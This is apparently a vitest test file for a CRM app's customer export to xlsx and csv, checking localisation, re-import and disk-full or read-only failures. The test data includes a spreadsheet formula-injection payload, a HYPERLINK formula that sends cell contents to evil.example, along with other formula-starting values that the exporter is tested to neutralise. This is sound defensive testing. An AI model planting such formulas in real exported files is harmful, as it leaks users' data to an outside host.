import BetterSqlite3 from 'better-sqlite3';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import fs from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { DATABASE_FILE_NAME } from '../../../../../electron/services/core/app-core.ts';
import { seedCustomers } from '../../../../fixtures/customer-fixtures.ts';
import { fillDisk } from '../../../../helpers/fill-disk.ts';
import { readOnlyView, smallDisk, type Mount } from '../../../../helpers/mounts.ts';
import { createTempCore, type TempCore } from '../../../../helpers/temp-core.ts';
import { tempFolders } from '../../../../helpers/temp-folders.ts';

let app: TempCore | null = null;
const mounts: Mount[] = [];

afterEach(async () => {
  await app?.close();
  app = null;
  for (const m of mounts.splice(0)) m.unmount();
});

const folder = tempFolders('tf-export-');

const HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Click")';

/** Two salespeople's customers; cells a spreadsheet would run as formulas; Chinese; a customer without contacts. */
async function seed(core: TempCore) {
  const li = await core.call('owners.create', { name: 'Li Wei', email: 'li.wei@mytrade.cn' });
  const wang = await core.call('owners.create', { name: 'Wang Fang', email: null });
  // Custom fields become columns headed by their labels; a label is the user's text, so it is neutralised too.
  const volume = await core.call('customFields.create', { label: 'Annual volume', type: 'text' });
  const score = await core.call('customFields.create', { label: '=1+1', type: 'number' });
  const shenzhen = await core.call('customers.create', {
    name: 'Shenzhen Minghua Trading',
    localName: '深圳明华贸易有限公司',
    regionCode: 'AS',
    country: 'CN',
    grade: 'A',
    stage: 'customer',
    source: 'cantonFair',
    ownerId: li.id,
    tags: ['展会', 'VIP'],
    website: 'minghua.cn',
    customFields: { [volume.id]: '500 柜', [score.id]: 42 },
  });
  await core.call('contacts.create', {
    customerId: shenzhen.id,
    name: '张伟',
    title: '采购经理',
    isPrimary: true,
    channels: [
      { kind: 'email', value: 'zhang@minghua.cn' },
      { kind: 'email', value: 'zw@163.com' },
      { kind: 'wechat', value: 'zhangwei88' },
    ],
  });
  await core.call('contacts.create', { customerId: shenzhen.id, name: '+1', channels: [{ kind: 'phone', value: '-2' }] });
  const evil = await core.call('customers.create', { name: HYPERLINK, regionCode: 'EU', country: 'DE', ownerId: li.id, notes: '@SUM(A1:A9)' });
  await core.call('contacts.create', { customerId: evil.id, name: 'Anna "the buyer", Berlin', channels: [{ kind: 'email', value: 'anna@evil.example' }] });
  const other = await core.call('customers.create', { name: 'Wang Only Imports', regionCode: 'EU', country: 'FR', ownerId: wang.id });
  // Leading tab and CR: the contract trims typed text, but a value can come in otherwise (an older import, a sync).
  const db = new BetterSqlite3(path.join(core.dataDir, DATABASE_FILE_NAME));
  db.prepare('UPDATE customers SET address = ?, phone = ? WHERE id = ?').run('\tTabbed street 1', '\r+49 40 123', evil.id);
  db.close();
  return { li, wang, shenzhen, evil, other };
}

describe('exports.customers', () => {
  it('writes two sheets to .xlsx in the user\u2019s language, formulas neutralised, and only the chosen owner\u2019s customers', async () => {
    app = await createTempCore();
    const { li } = await seed(app);
    const dir = folder();
    const file = path.join(dir, '客户.xlsx');

    const result = await app.call('exports.customers', { format: 'xlsx', path: file, ownerId: li.id, language: 'zh-CN' });
    expect(result).toMatchObject({ kind: 'customers', path: file, customers: 2, contacts: 3 });
    expect(result.files).toEqual([{ path: file, bytes: fs.statSync(file).size }]);
    // Nothing but the finished file: the temporary one was renamed.
    expect(fs.readdirSync(dir)).toEqual(['客户.xlsx']);

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(file);
    expect(workbook.worksheets.map((w) => w.name)).toEqual(['客户', '联系人']);
    const rows = (name: string) => {
      const out: string[][] = [];
      workbook.getWorksheet(name)!.eachRow((row) => out.push(Array.from((row.values as unknown[]).slice(1), (v) => (v === null || v === undefined ? '' : String(v)))));
      return out;
    };
    const customers = rows('客户');
    expect(customers[0]!.slice(0, 4)).toEqual(['客户编号', '公司名称', '中文名称', '国家']);
    expect(customers).toHaveLength(3);
    const byName = new Map(customers.slice(1).map((r) => [r[1]!, r]));
    const sz = byName.get('Shenzhen Minghua Trading')!;
    expect(sz[2]).toBe('深圳明华贸易有限公司');
    expect(sz.slice(7, 10)).toEqual(['A', '成交客户', '广交会']);
    expect(sz[10]).toBe('Li Wei');
    expect(sz[11]!.split(', ').sort()).toEqual(['VIP', '展会']);
    const evil = byName.get(`'${HYPERLINK}`)!;
    expect(evil).toBeDefined();
    expect(evil[5]).toBe("'\tTabbed street 1");
    // An XML reader turns the CR into LF (XML line-end normalisation); the apostrophe is what counts.
    expect(evil[6]).toMatch(/^'[\r\n]\+49 40 123$/);
    expect(evil[12]).toBe("'@SUM(A1:A9)");
    expect(customers.some((r) => r[1] === 'Wang Only Imports')).toBe(false);
    expect(customers[0]!.slice(15)).toEqual(['Annual volume', "'=1+1"]);
    expect(sz.slice(15)).toEqual(['500 柜', '42']);
    // Activities are the export of everything's: this one has two sheets.
    expect(result.activities).toBe(0);

    const contacts = rows('联系人');
    expect(contacts[0]).toEqual(['客户编号', '公司名称', '联系人', '职位', '主联系人', '邮箱', '电话', 'WhatsApp', '微信', 'Skype', '其他联系方式', '联系人备注']);
    const zhang = contacts.find((r) => r[2] === '张伟')!;
    expect(zhang.slice(3, 9)).toEqual(['采购经理', '是', 'zhang@minghua.cn; zw@163.com', '', '', 'zhangwei88']);
    const plus = contacts.find((r) => r[2] === "'+1")!;
    expect(plus[6]).toBe("'-2");
  });

  it('writes one .csv row per contact, UTF-8 with BOM, quoted and neutralised, that the contact import maps by its headers', async () => {
    app = await createTempCore();
    await seed(app);
    const file = path.join(folder(), 'customers.csv');
    const progress: unknown[] = [];
    const stop = app.core.subscribe((event, payload) => event === 'exports.progress' && progress.push(payload));
    const result = await app.call('exports.customers', { format: 'csv', path: file, language: 'en' });
    stop();
    expect(result).toMatchObject({ customers: 3, contacts: 3 });
    expect(progress.at(-1)).toEqual({ kind: 'customers', path: file, phase: 'customers', done: 3, total: 3 });

    const bytes = fs.readFileSync(file);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8');
    expect(text).toContain('深圳明华贸易有限公司');
    const rows = parse(bytes, { bom: true, relax_column_count: false }) as string[][];
    const header = rows[0]!;
    expect(header.slice(0, 3)).toEqual(['Customer code', 'Company name', 'Chinese name']);
    const col = (name: string) => header.indexOf(name);
    // Shenzhen twice (two contacts), the formula customer once, Wang's customer once with empty contact columns.
    expect(rows).toHaveLength(5);
    const shenzhen = rows.filter((r) => r[col('Company name')] === 'Shenzhen Minghua Trading');
    expect(shenzhen.map((r) => r[col('Contact name')])).toEqual(['张伟', "'+1"]);
    expect(shenzhen[1]![col('Phone')]).toBe("'-2");
    expect(shenzhen[0]![col('Stage')]).toBe('Customer');
    const evil = rows.find((r) => r[col('Company name')]!.includes('HYPERLINK'))!;
    expect(evil[col('Company name')]).toBe(`'${HYPERLINK}`);
    expect(evil[col('Notes')]).toBe("'@SUM(A1:A9)");
    expect(evil[col('Address')]).toBe("'\tTabbed street 1");
    expect(evil[col('Company phone')]).toBe("'\r+49 40 123");
    expect(evil[col('Contact name')]).toBe('Anna "the buyer", Berlin');
    const lonely = rows.find((r) => r[col('Company name')] === 'Wang Only Imports')!;
    expect(lonely[col('Contact name')]).toBe('');
    // No cell of the file starts a formula.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    // The headers are ones the contact import knows, so the file goes back in without a mapping.
    const preview = await app.call('imports.previewContacts', { path: file, rows: 0 });
    const mapped = new Map(preview.sheets[0]!.mapping.map((m) => [m.header, m.target]));
    expect(mapped.get('Company name')).toEqual({ kind: 'field', field: 'companyName' });
    expect(mapped.get('Contact name')).toEqual({ kind: 'field', field: 'contactName' });
    expect(mapped.get('Email')).toEqual({ kind: 'field', field: 'email' });
    // A custom field goes back in as one of the same label.
    expect(mapped.get('Annual volume')).toEqual({ kind: 'custom', label: 'Annual volume' });
    expect(shenzhen[0]![col('Annual volume')]).toBe('500 柜');
    // In the file the label is escaped; the import takes the escape off again.
    expect(shenzhen[0]![col("'=1+1")]).toBe('42');
    expect(mapped.get('=1+1')).toEqual({ kind: 'custom', label: '=1+1' });
    expect(mapped.has("'=1+1")).toBe(false);
  });

  it('round-trips through the contact import: a value escaped against formulas comes back as it was', async () => {
    app = await createTempCore();
    const field = await app.call('customFields.create', { label: '=1+1', type: 'text' });
    const customer = await app.call('customers.create', { name: 'Round Trip Ltd', regionCode: 'AS', country: 'CN', notes: '-50% on the second order', customFields: { [field.id]: "'@already quoted" } });
    await app.call('contacts.create', { customerId: customer.id, name: 'Zhou Min', channels: [{ kind: 'phone', value: '+86 139 0000 0000' }] });
    for (const format of ['csv', 'xlsx'] as const) {
      const file = path.join(folder(), `customers.${format}`);
      await app.call('exports.customers', { format, path: file });
      if (format === 'csv') expect(fs.readFileSync(file, 'utf8')).toContain("'+86 139 0000 0000");
      const fresh = await createTempCore();
      try {
        const owner = await fresh.call('owners.create', { name: 'Li Wei', email: null });
        const { sheets } = await fresh.call('imports.previewContacts', { path: file });
        const mapping = sheets[0]!.mapping.map((m) => m.target);
        const batch = await fresh.call('imports.applyContacts', { path: file, sheet: 0, mapping, defaultOwnerId: owner.id });
        expect(batch.status).toBe('done');
        const [row] = (await fresh.call('customers.list', { search: 'Round Trip' })).rows;
        const detail = await fresh.call('customers.get', { id: row!.id });
        // The customer code column is skipped, so the company name column is the name and nothing of it lands in the notes.
        expect(detail.name).toBe('Round Trip Ltd');
        expect(detail.notes).toMatch(/^-50% on the second order(\n|$)/);
        expect(detail.notes).not.toContain('Round Trip Ltd');
        if (format === 'csv') expect(detail.contacts.flatMap((c) => c.channels.map((ch) => ch.value))).toEqual(['+86 139 0000 0000']);
        const labels = (await fresh.call('customFields.list', {})).map((d) => d.label);
        expect(labels).toContain('=1+1');
        expect(labels).not.toContain("'=1+1");
        // What the app derives itself (last contact, created, primary contact) makes no custom fields.
        expect(labels.filter((l) => ['Last contact', 'Created', 'Primary contact'].includes(l))).toEqual([]);
        const def = (await fresh.call('customFields.list', {})).find((d) => d.label === '=1+1')!;
        // A value that started with apostrophes keeps them: the export added one more, the import took one off.
        expect(detail.customFields[def.id]).toBe("'@already quoted");
      } finally {
        await fresh.close();
      }
    }
  });
});

describe('exports that cannot be written', () => {
  it('names the file when the folder is read-only, is missing, or the path is relative, and leaves nothing behind', async () => {
    app = await createTempCore();
    await seed(app);
    const source = folder();
    const ro = readOnlyView(source);
    mounts.push(ro);
    const target = path.join(ro.path, 'customers.xlsx');
    const error = await app.fail('exports.customers', { format: 'xlsx', path: target });
    expect(error).toMatchObject({ code: 'readOnly', message: 'exports.errors.notWritable', params: { file: target } });
    expect(fs.readdirSync(source)).toEqual([]);

    const missing = path.join(source, 'no-such-folder', 'c.csv');
    expect(await app.fail('exports.customers', { format: 'csv', path: missing })).toMatchObject({
      code: 'validation',
      message: 'exports.errors.folderMissing',
      params: { file: missing, folder: path.dirname(missing) },
    });
    expect(await app.fail('exports.customers', { format: 'csv', path: 'customers.csv' })).toMatchObject({ message: 'exports.errors.notAbsolute', params: { file: 'customers.csv' } });
    expect(await app.fail('exports.everything', { folder: ro.path })).toMatchObject({ code: 'readOnly', message: 'exports.errors.notWritable' });
    expect(fs.readdirSync(source)).toEqual([]);
  });

  it('says the disk is full, naming the file, and leaves no half file under any name', async () => {
    app = await createTempCore();
    await seed(app);
    const disk = smallDisk('1m');
    mounts.push(disk);
    const filler = fillDisk(disk.path);
    for (const format of ['csv', 'xlsx'] as const) {
      const target = path.join(disk.path, `customers.${format}`);
      const error = await app.fail('exports.customers', { format, path: target });
      expect(error).toMatchObject({ code: 'diskFull', message: 'exports.errors.diskFull', params: { file: target } });
      expect(fs.readdirSync(disk.path)).toEqual(['filler.bin']);
    }
    filler.free();
    // With room again the same export succeeds.
    const target = path.join(disk.path, 'customers.csv');
    await app.call('exports.customers', { format: 'csv', path: target });
    expect(fs.readdirSync(disk.path)).toEqual(['customers.csv']);
  });

  it('fails cleanly, naming the file, when the disk fills up in the middle of a streamed .xlsx', async () => {
    app = await createTempCore();
    // ~1.7 MB of workbook for a 1 MB disk: it fills while the zip streams the first sheet.
    seedCustomers(app.core.database().sqlite, { customers: 8_000, activitiesPerCustomer: 0, now: Date.UTC(2026, 5, 1), seed: 5 });
    const disk = smallDisk('1m');
    mounts.push(disk);
    const target = path.join(disk.path, 'customers.xlsx');
    const error = await app.fail('exports.customers', { format: 'xlsx', path: target });
    expect(error).toMatchObject({ code: 'diskFull', message: 'exports.errors.diskFull', params: { file: target } });
    expect(fs.readdirSync(disk.path)).toEqual([]);
  }, 60_000);
});
